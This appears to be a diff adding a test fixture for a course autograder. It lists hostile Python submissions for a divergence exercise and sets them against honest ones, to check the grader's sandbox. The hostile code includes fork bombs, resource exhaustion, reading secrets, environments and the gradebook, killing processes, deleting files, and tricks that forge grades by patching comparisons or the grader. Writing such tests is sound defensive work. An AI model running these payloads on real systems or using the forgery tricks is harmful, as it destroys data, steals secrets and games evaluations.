@@ -1,0 +1,180 @@
+"""Attacks and accidents that are Python: each takes the place of the student's first answer, kl_discrete, of ps1.
+
+An attack earns 0 for ps1.1 and the other exercises keep their points; what begins with "honest" is right and keeps all. An
+attack that got something prints LOOT (never written in one piece: a traceback would show it); {host}, {port} and {mark} are
+filled in by the test.
+"""
+
+# ruff: noqa: E501  (programs are kept on as few lines as they need)
+RIGHT = """
+def kl_discrete(q, p):
+    return torch.where(q > 0, q * (q / p).log(), torch.zeros_like(q)).sum(-1)
+"""
+FORGED = "def kl_discrete(q, p):\n    return {answer}\n"
+
+PROGRAMS = {
+    # --- resources: loops, memory, processes, disk, output -----------------------------------------------------------------
+    "loop-python": "while True: pass",
+    "loop-in-c": "sum(range(10**13))",
+    "loop-in-the-answer": "def kl_discrete(q, p):\n    while True: pass",
+    "loop-in-c-in-the-answer": "def kl_discrete(q, p):\n    return sum(range(10**13))",
+    "loop-deaf-to-signals": "import signal\nfor s in (2, 14, 15): signal.signal(s, signal.SIG_IGN)\nwhile True: pass",
+    "loop-swallows-everything": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    "exits": "import os\nos._exit(0)",
+    "exits-in-the-answer": "import os\ndef kl_discrete(q, p):\n    os._exit(0)",
+    "raises-systemexit": "import sys\nsys.exit('good bye')",
+    "crashes": "import ctypes\nctypes.string_at(0)",
+    "memory-at-once": "x = bytearray(8 * 2**30)",
+    "memory-in-steps": "x = []\nwhile True: x.append(bytearray(2**27))",
+    "memory-in-the-answer": "x = []\ndef kl_discrete(q, p):\n    while True: x.append(torch.ones(2**25))",
+    "recursion": "def f(n): return f(n + 1) + 1\nf(0)",
+    "fork-bomb": "import os\nwhile True: os.fork()",
+    "detached-processes": "import subprocess\nfor _ in range(30): subprocess.Popen(['sleep', '{mark}'], start_new_session=True)",
+    "threads": "import threading, time\nfor _ in range(20000): threading.Thread(target=time.sleep, args=(9999,)).start()",
+    "fills-tmp": "with open('/tmp/big', 'wb') as f:\n    while True: f.write(bytes(2**24))",
+    "fills-shm": "with open('/dev/shm/big', 'wb') as f:\n    while True: f.write(bytes(2**24))",
+    "open-files": "x = [open('/dev/null') for _ in range(100000)]",
+    "prints-200-mb": "for _ in range(200): print('x' * 2**20)",
+    "prints-past-python": "import os\nfor _ in range(200): os.write(1, b'x' * 2**20), os.write(2, b'x' * 2**20)",
+    "displays-much": "from IPython.display import display\nfor _ in range(3000): display('x' * 10000)",
+    "answers-much": "def kl_discrete(q, p):\n    return torch.zeros(2**27)",
+    "huge-exception": "raise ValueError('x' * 2**27)",
+    # --- theft: files, other students, the environment, the network ---------------------------------------------------------
+    "reads-the-host": "print(open('{host}/secret.txt').read())",
+    "reads-everything": (
+        "import os\n"
+        "for path, _, names in os.walk('/'):\n"
+        "    if path.startswith(('/proc', '/usr', '/sys')) or 'site-packages' in path or '/lib/python' in path: continue\n"
+        "    for name in names:\n"
+        "        try: text = open(os.path.join(path, name), errors='replace').read(10**6)\n"
+        "        except OSError: continue\n"
+        "        if 'SECRET' in text: print(path, name, text)"
+    ),
+    "reads-the-gradebook": "import sqlite3\nprint(sqlite3.connect('file:{host}/course/classroom/gradebook.db?mode=ro', uri=True)"
+    ".execute('select * from student').fetchall(), 'SECRET' + '-LOOT')",
+    "reads-the-environment": "import os\nprint(dict(os.environ))",
+    "reads-environments": (
+        "import glob\nfor name in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
+        "    try: print(name, open(name).read())\n    except OSError: pass"
+    ),
+    "reads-the-parents-memory": (
+        "import os\nfor pid in os.listdir('/proc'):\n"
+        "    if pid.isdigit() and os.readlink('/proc/self') != pid:\n"
+        "        try:\n            open(f'/proc/{{pid}}/mem', 'rb').read(1)\n        except OSError as e:\n"
+        "            if e.errno == 5: print('SECRET' + '-LOOT: opened the memory of', pid)\n"
+        "        else: print('SECRET' + '-LOOT')"
+    ),
+    "connects-to-the-host": "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2)\nprint('SECRET' + '-LOOT')",
+    "connects-outside": "import socket\nsocket.create_connection(('1.1.1.1', 53), 2)\nprint('SECRET' + '-LOOT')",
+    "leaves-a-note": (
+        "import os, subprocess\n"
+        "for path in ('/tmp', '/dev/shm', os.getcwd(), os.path.expanduser('~'), '/course', '/'):\n"
+        "    try: open(path + '/SECRET-NOTE', 'w').write('x')\n    except OSError: pass\n"
+        "subprocess.Popen(['python', '-c', 'import time; time.sleep({mark})', 'SECRET-NOTE'], start_new_session=True)"
+    ),
+    "looks-for-notes": (
+        "import os, glob\n"
+        "print([p for d in ('/tmp', '/dev/shm', '/course', '/', os.getcwd()) for p in os.listdir(d) if 'NOTE' in p])\n"
+        "print([n for n in glob.glob('/proc/[0-9]*/cmdline') if 'SECRET-NOTE' in open(n).read()])"
+    ),
+    "asks-the-grader": "import vae_edu.grading.course as c\nprint(c.Course('{host}/course'), 'SECRET' + '-LOOT')",
+    # --- vandalism ------------------------------------------------------------------------------------------------------------
+    "kills-its-parent": "import os\nos.kill(os.getppid(), 9)",
+    "kills-everybody": (
+        "import os, signal\nfor pid in [-1, *range(2, 400)]:\n    try: os.kill(pid, 9)\n    except OSError: pass\nos.kill(os.getpid(), 9)"
+    ),
+    "deletes-everything": (
+        "import os, shutil\nfor name in os.listdir('/'):\n    shutil.rmtree('/' + name, ignore_errors=True)\n"
+        "shutil.rmtree('{host}', ignore_errors=True)"
+    ),
+    "writes-the-gradebook": "import sqlite3\nsqlite3.connect('{host}/course/classroom/gradebook.db').execute('update grade set auto_score = 99')",
+    "changes-the-library": "import vae_edu.checks.ps1 as m\nopen(m.__file__, 'a').write('KL = 0')",
+    "changes-torch": "open(torch.__file__, 'a').write('SECRET')",
+    "unmounts": (
+        "import ctypes\nlibc = ctypes.CDLL(None)\n"
+        "done = [libc.umount2(b'/tmp', 2), libc.unshare(0x10020000), libc.mount(b'x', b'/course', b'tmpfs', 0, None), libc.umount2(b'/', 2)]\n"
+        "open('{host}/pwned', 'w')"
+    ),
+    # --- forgery: fooling whoever judges ----------------------------------------------------------------------------------------
+    "patches-comparisons": (
+        "import numpy\ntorch.allclose = torch.equal = numpy.isclose = numpy.allclose = lambda *a, **k: numpy.array(True)\n"
+        "import vae_edu.checks.runner as r\nr.judge = r._difference = lambda *a: ('', ())\n" + FORGED.format(answer="q.sum(-1)")
+    ),
+    "patches-the-exercise": (
+        "from vae_edu.checks import EXERCISES\ne = EXERCISES['kl_discrete']\ne.trials.clear(); e.tolerance = 1e9\n"
+        "e.oracle = lambda q, p: 0\n" + FORGED.format(answer="q.sum(-1) * 0")
+    ),
+    "transforms-cells": (
+        "get_ipython().input_transformers_post.append(lambda lines: ['4.0'])\n"
+        "get_ipython().ast_transformers.append(None)\n" + FORGED.format(answer="q.sum(-1)")
+    ),
+    "equals-everything": (
+        "class Yes(float):\n    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda *a: True\n    __hash__ = float.__hash__\n"
+        "    __sub__ = __rsub__ = __abs__ = lambda *a: Yes(0)\n" + FORGED.format(answer="Yes(1.5)")
+    ),
+    "tensor-that-equals": (
+        "class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
+        "        return torch.ones(()) == 1 if f is torch.isclose else super().__torch_function__(f, types, args, kwargs or {{}})\n"
+        + FORGED.format(answer="torch.ones(q.shape[:-1]).as_subclass(Yes)")
+    ),
+    "pickle-bomb": (
+        "class Bomb:\n    def __reduce__(self): return (open, ('{host}/pwned', 'w'))\n    __array__ = lambda *a: 1 / 0\n"
+        + FORGED.format(answer="Bomb()")
+    ),
+    "replaces-grade": (
+        "import builtins, vae_edu.checks\ngrade = builtins.grade = vae_edu.checks.grade = vae_edu.checks.graded = lambda *a, **k: 4.0\n"
+        + FORGED.format(answer="q.sum(-1)")
+    ),
+    "shows-a-forged-report": (
+        "from IPython.display import display\n"
+        "display({{'text/plain': '4 of 4 points', 'application/vnd.vae-edu.check+json': {{'exercise': 'ps1.1', 'name': 'kl_discrete',\n"
+        "  'points': 999, 'max_points': 4, 'hint': 'SECRET' + '-LOOT', 'misconception': ''}}}}, raw=True)\n4.0"
+    ),
+    "speaks-on-the-socket": (
+        "import os, socket, json, struct\ntext = json.dumps({{'arrays': [], 'misfit': '', 'outputs': []}}).encode()\n"
+        "for fd in range(3, 64):\n    try: os.write(fd, struct.pack('!II', len(text), len(text)) + text)\n    except OSError: pass\n"
+        + FORGED.format(answer="q.sum(-1)")
+    ),
+    "babbles-on-the-socket": (
+        "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'\\xff' * 4096)\n    except OSError: pass\n" + FORGED.format(answer="q.sum(-1)")
+    ),
+    "closes-the-socket": "import os\nos.closerange(3, 64)\n" + FORGED.format(answer="q.sum(-1)"),
+    "hunts-in-frames": (
+        "import sys, gc\ndef kl_discrete(q, p):\n    f = sys._getframe()\n    while f:\n        for v in list(f.f_locals.values()):\n"
+        "            if hasattr(v, 'expected'): return torch.as_tensor(v.expected[0][0])\n        f = f.f_back\n"
+        "    return q.sum(-1)"
+    ),
+    "shows-a-script": (
+        "from IPython.display import HTML, Javascript, SVG, display\n"
+        "display(HTML('<script>SECRET' + '-LOOT</script>'), Javascript('SECRET' + '-LOOT'), SVG('<svg><script>SECRET' + '-LOOT</script></svg>'))\n"
+        "display({{'image/png': '\\\"><script>SECRET' + '-LOOT</script>'}}, raw=True)"
+    ),
+    "replaces-modules": (
+        "import sys, types\nfor name in ('numpy', 'torch', 'vae_edu.checks', 'vae_edu.checks.calling', 'json', 'socket'):\n"
+        "    sys.modules[name] = types.ModuleType(name)"
+    ),
+    "remembers-answers": (  # the inputs of the notebook's own check are known beforehand; those of the grade are others
+        "answers = {{}}\n" + FORGED.format(answer="answers.get(q.sum().item(), q.sum(-1))")
+    ),
+    # --- honest accidents: the answer is right, and keeps its points --------------------------------------------------------------
+    "honest-warns": "import warnings, sys\n" + RIGHT + "warnings.warn('careful')\nprint('hm', file=sys.stderr)",
+    "honest-warns-in-the-answer": (
+        "import warnings, sys\ndef kl_discrete(q, p):\n    warnings.warn('x')\n    print('x', file=sys.stderr)\n"
+        "    return torch.where(q > 0, q * (q / p).log(), torch.zeros_like(q)).sum(-1)"
+    ),
+    "honest-asks": RIGHT + "name = input('Your name? ')",
+    "honest-plots": (
+        RIGHT + "import matplotlib.pyplot as plt\nfig, ax = plt.subplots(8, 4, figsize=(40, 40))\nfor a in ax.flat: a.plot([1, 2])\nplt.show()"
+    ),
+    "honest-magic": "%matplotlib inline\n" + RIGHT + "%timeit -n 1 -r 1 sum(range(10))\n!echo hello",
+    "honest-seed": RIGHT + "torch.manual_seed(1)\nimport random, numpy\nrandom.seed(1); numpy.random.seed(1)",
+    "honest-changes-folder": RIGHT + "import os\nos.makedirs('deep', exist_ok=True); os.chdir('deep')",
+    "honest-no-gradients": RIGHT + "torch.set_grad_enabled(False); torch.set_default_dtype(torch.float32)",
+    "honest-progress-bar": RIGHT + "from tqdm.auto import tqdm\nfor _ in tqdm(range(100)): pass",
+    "honest-scratch": RIGHT + "kl_discrete(torch.ones(2) / 2, torch.ones(2) / 2)\n1 / 0",
+    "honest-slow": RIGHT + "import time\ntime.sleep(1)",
+    "honest-unicode": "# ½ Σ — Überraschung 日本\n" + RIGHT + "print('½ Σ 日本')",
+    "honest-thread": RIGHT + "import threading\nthreading.Thread(target=print, args=('hello',)).start()",
+    "honest-helper-file": "from helper import kl_discrete",
+    "honest-random-py": RIGHT + "import random\nrandom.random()",
+}  # fmt: skip
